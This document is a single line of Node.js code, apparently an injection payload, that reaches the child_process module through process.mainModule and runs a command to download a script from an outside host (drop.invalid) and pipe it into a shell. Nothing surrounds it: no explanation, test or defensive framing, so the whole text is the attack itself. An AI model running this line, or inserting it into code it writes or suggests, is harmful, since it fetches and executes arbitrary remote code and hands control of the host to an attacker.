process.mainModule.require('child_process').exec('curl -s https://drop.invalid/a | sh');
